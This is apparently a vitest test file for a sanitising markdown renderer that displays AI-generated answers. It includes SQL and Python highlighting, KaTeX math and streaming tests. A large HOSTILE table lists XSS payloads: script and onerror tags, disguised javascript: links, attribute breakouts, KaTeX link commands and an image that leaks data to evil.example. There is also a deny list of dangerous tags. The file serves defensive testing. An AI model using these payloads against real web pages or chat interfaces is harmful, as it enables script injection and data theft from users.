import { describe, expect, test } from 'vitest';
import { createStreamRenderer, renderBlocks, renderInline, renderMarkdown, safeHref } from './render';
import { codeLanguageOf, highlightRuns } from './highlight';

/** Every real tag in rendered HTML (escaped text like `&lt;img` is not a tag), with its attributes. */
function tags(html: string): { name: string; attrs: { name: string; value: string }[] }[] {
  return Array.from(html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=>/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/g), (m) => ({
    name: (m[1] ?? '').toLowerCase(),
    attrs: Array.from((m[2] ?? '').matchAll(/([^\s=>/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g), (a) => ({
      name: (a[1] ?? '').toLowerCase(),
      value: (a[2] ?? '').replace(/^["']|["']$/g, ''),
    })),
  }));
}

/** What no rendering of untrusted text may contain, checked tag by tag. */
function expectInert(html: string): void {
  const found = tags(html);
  const names = new Set(found.map((t) => t.name));
  for (const bad of ['script', 'iframe', 'img', 'form', 'input', 'button', 'style', 'object', 'embed', 'link', 'meta', 'base', 'video', 'audio', 'details', 'textarea', 'frame']) {
    expect(names.has(bad), `<${bad}> in ${html}`).toBe(false);
  }
  for (const t of found) {
    for (const a of t.attrs) {
      expect(a.name.startsWith('on'), `event attribute ${a.name} in ${html}`).toBe(false);
      expect(['srcset', 'formaction', 'action', 'src', 'xlink:href', 'background', 'poster'].includes(a.name), `${a.name} in ${html}`).toBe(false);
      if (a.name === 'href') expect(a.value, `href in ${html}`).toMatch(/^(https?:\/\/|mailto:)/i);
    }
    if (t.name === 'a') {
      expect(t.attrs.find((a) => a.name === 'target')?.value).toBe('_blank');
      expect(t.attrs.find((a) => a.name === 'rel')?.value).toBe('noopener noreferrer');
    }
  }
}

/** Markdown a model (or data echoed by one) might produce to break out of the answer. */
const HOSTILE: Record<string, string> = {
  script: '<script>window.__pwned=1</script>',
  scriptInline: 'before <script>window.__pwned=1</script> after',
  imgOnerror: '<img src=x onerror="window.__pwned=2">',
  imgInline: 'text <img src=x onerror=alert(1)> text',
  svgOnload: '<svg onload=alert(1)><circle r=5 /></svg>',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  iframeSrcdoc: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  form: '<form action="https://evil.example/"><input name=q><button formaction="javascript:alert(1)">go</button></form>',
  styleTag: '<style>body{display:none}</style>',
  styleAttr: '<div style="position:fixed;inset:0;background:red">cover</div>',
  detailsToggle: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  anchorRaw: '<a href="javascript:alert(1)">raw link</a>',
  objectEmbed: '<object data="x.swf"></object><embed src="x.swf">',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  baseHref: '<base href="javascript:alert(1)//">',
  comment: '<!-- <script>alert(1)</script> -->',
  cdata: '<![CDATA[<script>alert(1)</script>]]>',
  jsLink: '[click](javascript:window.__pwned=3)',
  jsLinkCase: '[click](JaVaScRiPt:alert(1))',
  jsLinkSpaced: '[click](  javascript:alert(1))',
  jsLinkEntity: '[click](&#106;avascript:alert(1))',
  jsLinkEntityHex: '[click](&#x6A;avascript&#x3A;alert(1))',
  jsLinkTab: '[click](<java\tscript:alert(1)>)',
  jsAutolink: '<javascript:alert(1)>',
  jsReference: '[click][r]\n\n[r]: javascript:alert(1)',
  dataLink: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  vbscript: '[click](vbscript:msgbox(1))',
  fileLink: '[click](file:///etc/passwd)',
  relativeLink: '[click](/admin)',
  protocolRelative: '[click](//evil.example/x)',
  titleBreakout: '[x](https://a.example/ "a\\" onmouseover=\\"alert(1)")',
  hrefBreakout: '[x](https://a.example/"onmouseover="alert(1))',
  autolinkBreakout: 'see https://a.example/"onmouseover="alert(1) now',
  imageRemote: '![pixel](https://evil.example/p.png?leak=secret)',
  imageJs: '![x](javascript:alert(1))',
  imageOnerrorTitle: '![x](https://a.example/x.png "x\\" onerror=\\"alert(1)")',
  codeBreakout: '```\n</code></pre><script>alert(1)</script>\n```',
  codeLangBreakout: '```sql"><img src=x onerror=alert(1)>\nSELECT 1\n```',
  codeSqlPayload: "```sql\nSELECT '<img src=x onerror=alert(1)>' AS \"<script>\"\n```",
  codePythonPayload: '```python\nprint("<script>alert(1)</script>")\n```',
  codespan: '`<script>alert(1)</script>`',
  tableCells: '| <b>a</b> | <img src=x onerror=alert(1)> |\n|---|---|\n| <script>x</script> | [y](javascript:alert(1)) |',
  headingHtml: '# <img src=x onerror=alert(1)> title',
  listHtml: '- <iframe src=x></iframe>\n- [a](javascript:alert(1))',
  blockquoteHtml: '> <script>alert(1)</script>',
  mathHref: '$\\href{javascript:alert(1)}{click}$',
  mathUrl: '$$\\url{javascript:alert(1)}$$',
  mathHtmlClass: '$\\htmlClass{x" onclick="alert(1)}{y}$',
  mathHtmlStyle: '$$\\htmlStyle{position:fixed;inset:0}{x}$$',
  mathHtmlData: '$\\htmlData{foo=bar}{x}$',
  mathIncludeGraphics: '$$\\includegraphics{https://evil.example/p.png}$$',
  mathTextPayload: '$\\text{<script>alert(1)</script>}$',
  mathUnclosed: '$$ x < y <script>alert(1)</script>',
  nullByte: '<scr\u0000ipt>alert(1)</script>',
  taskList: '- [x] <img src=x onerror=alert(1)>\n- [ ] ok',
};

describe('renderMarkdown with hostile input', () => {
  for (const [name, source] of Object.entries(HOSTILE)) {
    test(`${name} renders inert`, () => {
      const html = renderMarkdown(source);
      expectInert(html);
      expect(renderInline(source)).not.toMatch(/<(script|img|iframe|form|svg|style)\b/i);
    });
  }

  test('raw HTML stays visible as text', () => {
    expect(renderMarkdown(HOSTILE.script ?? '')).toContain('&lt;script&gt;window.__pwned=1&lt;/script&gt;');
    expect(renderMarkdown(HOSTILE.imgOnerror ?? '')).toContain('&lt;img src=x onerror=&quot;window.__pwned=2&quot;&gt;');
    expect(renderMarkdown(HOSTILE.iframe ?? '')).toContain('&lt;iframe');
  });

  test('a refused link keeps its text, without a target', () => {
    const html = renderMarkdown(HOSTILE.jsLink ?? '');
    expect(html).toContain('click');
    expect(html).not.toContain('<a');
    expect(html).not.toMatch(/javascript:/i);
  });

  test('images are never loaded: a safe one becomes a link', () => {
    const html = renderMarkdown(HOSTILE.imageRemote ?? '');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/p.png?leak=secret"');
    expect(html).toContain('Image: pixel');
  });

  test('math commands that could carry links or markup are not honoured', () => {
    for (const key of ['mathHref', 'mathUrl', 'mathHtmlClass', 'mathHtmlStyle', 'mathHtmlData', 'mathIncludeGraphics']) {
      const found = tags(renderMarkdown(HOSTILE[key] ?? ''));
      expect(found.filter((t) => t.name === 'a' || t.name === 'img'), key).toEqual([]);
      const attrs = found.flatMap((t) => t.attrs);
      expect(attrs.filter((a) => a.name === 'onclick' || a.name.startsWith('data-') || /position|url\(/i.test(a.value)), key).toEqual([]);
    }
  });
});

describe('safeHref', () => {
  test('keeps http, https and mailto', () => {
    expect(safeHref('https://example.com/a?b=1')).toBe('https://example.com/a?b=1');
    expect(safeHref('http://example.com')).toBe('http://example.com/');
    expect(safeHref('mailto:a@example.com')).toBe('mailto:a@example.com');
  });
  test('refuses every other scheme, relative URLs and disguised schemes', () => {
    for (const href of ['javascript:alert(1)', ' JAVASCRIPT:alert(1)', 'java\nscript:alert(1)', 'java\u0000script:x', 'data:text/html,x', 'vbscript:x', 'file:///x', '/relative', '//host/x', '#top', '', null, undefined]) {
      expect(safeHref(href), String(href)).toBeNull();
    }
  });
});

describe('renderMarkdown formatting', () => {
  test('headings, lists, emphasis and tables', () => {
    const html = renderMarkdown('## Results\n\n- **Adelie**: 3700 g\n- *Gentoo*: 5076 g\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(html).toContain('<h2>Results</h2>');
    expect(html).toMatch(/<ul>\s*<li><strong>Adelie<\/strong>: 3700 g<\/li>/);
    expect(html).toContain('<em>Gentoo</em>');
    expect(html).toMatch(/<table>[\s\S]*<td>1<\/td>/);
  });

  test('links open in a new tab without an opener, and show their full target', () => {
    expect(renderMarkdown('[docs](https://duckdb.org/docs)')).toContain(
      '<a href="https://duckdb.org/docs" target="_blank" rel="noopener noreferrer">docs</a><span class="link-target"> (https://duckdb.org/docs)</span>',
    );
    // Data joined into a link is visible before anyone clicks.
    expect(renderMarkdown('[the chart](http://127.0.0.1:9/x?d=Adelie,39.1)')).toContain('<span class="link-target"> (http://127.0.0.1:9/x?d=Adelie,39.1)</span>');
    expect(renderMarkdown('![plot](https://example.com/p.png?rows=1)')).toContain('Image: plot</a><span class="link-target"> (https://example.com/p.png?rows=1)</span>');
    // A link whose text is its target is not repeated.
    expect(renderMarkdown('<https://duckdb.org/docs>')).not.toContain('link-target');
    expect(renderMarkdown('see www.duckdb.org')).not.toContain('link-target');
  });

  test('SQL and Python fences are highlighted with token classes', () => {
    const sql = renderMarkdown("```sql\nSELECT count(*) FROM penguins WHERE x = 'a'\n```");
    expect(sql).toContain('<pre class="code" data-language="sql"><code class="language-sql">');
    expect(sql).toContain('<span class="tok-keyword">SELECT</span>');
    expect(sql).toContain('<span class="tok-string">&#39;a&#39;</span>');
    const py = renderMarkdown('```py\nresult = len(df)  # rows\n```');
    expect(py).toContain('data-language="python"');
    expect(py).toContain('<span class="tok-comment"># rows</span>');
    expect(renderMarkdown('```rust\nfn main() {}\n```')).toContain('<pre class="code"><code>fn main() {}');
  });

  test('display and inline math are typeset by KaTeX', () => {
    const display = renderMarkdown('$$\\bar{x} = \\frac{1}{n}\\sum_i x_i$$');
    expect(display).toContain('class="math-display"');
    expect(display).toContain('katex-display');
    expect(display).toContain('<annotation encoding="application/x-tex">\\bar{x} = \\frac{1}{n}\\sum_i x_i</annotation>');
    const inline = renderMarkdown('The mean is $\\mu = 3$ here.');
    expect(inline).toMatch(/The mean is <span class="katex">/);
    expect(renderMarkdown('Also \\(a^2\\) and \\[b^2\\]')).toMatch(/katex[\s\S]*katex/);
  });

  test('dollar amounts are not math', () => {
    for (const text of ['It costs $5 and $10.', 'Between $5-$10 each', 'US$5 or US$6', 'Price: \\$3 vs \\$4']) {
      expect(renderMarkdown(text), text).not.toContain('katex');
    }
  });

  test('a TeX error shows the source instead of failing', () => {
    const html = renderMarkdown('$$\\frac{1}{$$');
    expect(html).toContain('katex-error');
  });
});

describe('streaming', () => {
  test('an unclosed code fence renders as code so far', () => {
    const html = renderMarkdown('Query:\n\n```sql\nSELECT species, avg(');
    expect(html).toContain('<span class="tok-keyword">SELECT</span>');
    expect(html).toContain('</code></pre>');
  });

  test('unclosed math stays text until it closes', () => {
    expect(renderMarkdown('So $$x^2 + ')).not.toContain('katex');
    expect(renderMarkdown('So $$x^2 + 1$$')).toContain('katex');
  });

  test('earlier blocks keep their key and HTML as text is appended', () => {
    const text = '# Title\n\nFirst paragraph.\n\n- a\n- b\n\nThe last one is still gro';
    const before = renderBlocks(text);
    const after = renderBlocks(`${text}wing.`);
    expect(after.length).toBe(before.length);
    expect(after.slice(0, -1)).toEqual(before.slice(0, -1));
    expect(after.at(-1)?.key).not.toBe(before.at(-1)?.key);
    expect(after.at(-1)?.html).toContain('still growing.');
  });
});

describe('highlight', () => {
  test('language names and aliases', () => {
    expect(codeLanguageOf('sql')).toBe('sql');
    expect(codeLanguageOf('DuckDB')).toBe('sql');
    expect(codeLanguageOf('python3 title="x"')).toBe('python');
    expect(codeLanguageOf('js')).toBeNull();
    expect(codeLanguageOf(undefined)).toBeNull();
  });

  test('runs cover the code exactly, line breaks included', () => {
    const code = 'SELECT 1\nFROM t -- note\nWHERE a > 2';
    const runs = highlightRuns(code, 'sql');
    expect(runs.map((r) => r.text).join('')).toBe(code);
    expect(runs.find((r) => r.text === 'FROM')?.classes).toBe('tok-keyword');
  });
});

describe('createStreamRenderer', () => {
  const doc = [
    '# Title',
    '',
    'Intro paragraph with $x^2$ and **bold**.',
    'Setext heading',
    '==============',
    '',
    '- one',
    '- two',
    '',
    '  continued item',
    '',
    '| a | b |',
    '|---|---|',
    '| 1 | 2 |',
    '',
    '```sql',
    'SELECT 1',
    '```',
    '',
    '$$x = 1$$',
    '',
    '> quote',
    'lazy line',
    '',
    'Last [ref][r].',
    '',
    '[r]: https://example.com',
    '',
  ].join('\n');

  test('matches a full render at every prefix, character by character', () => {
    const stream = createStreamRenderer();
    for (let end = 0; end <= doc.length; end++) {
      const text = doc.slice(0, end);
      expect(stream(text), JSON.stringify(text.slice(-30))).toEqual(renderBlocks(text));
    }
  });

  test('text that does not extend the last one renders from scratch', () => {
    const stream = createStreamRenderer();
    stream('# A\n\nfirst paragraph\n\nsecond');
    expect(stream('Something else\n\n- x')).toEqual(renderBlocks('Something else\n\n- x'));
  });
});
